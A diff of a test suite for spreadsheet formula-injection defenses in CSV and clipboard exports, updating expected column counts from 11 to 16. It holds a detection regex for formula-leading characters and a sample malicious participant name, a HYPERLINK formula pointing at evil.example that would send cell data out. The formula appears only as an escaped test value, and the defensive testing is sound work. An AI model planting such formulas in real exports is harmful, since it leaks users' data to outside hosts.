@@ -84,9 +84,9 @@ describe('participants whose names attack', () => {
     await system.close()
 
     const [header, ...lines] = readCsv(text)
-    expect(header).toHaveLength(11)
+    expect(header).toHaveLength(16)
     for (const line of lines) {
-      expect(line).toHaveLength(11)
+      expect(line).toHaveLength(16)
       for (const cell of line) expect(cell).not.toMatch(/^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u)
     }
     const names = lines.map(([name = '']) => restore(name))
@@ -99,7 +99,7 @@ describe('participants whose names attack', () => {
     await panel.page.getByText(/^Copied/).waitFor()
     const text = await panel.page.evaluate(() => navigator.clipboard.readText())
     const lines = readCsv(text.replaceAll('\r\n', '\n').replace(/\n$/, ''), '\t')
-    for (const line of lines) expect(line).toHaveLength(11)
+    for (const line of lines) expect(line).toHaveLength(16)
     expect(text).not.toMatch(/(^|[\t\n])"?[=@＝]/)
     expect(lines.some(([name]) => name === '\'=HYPERLINK("http://evil.example/?"&A2;"name")')).toBe(true)
   })
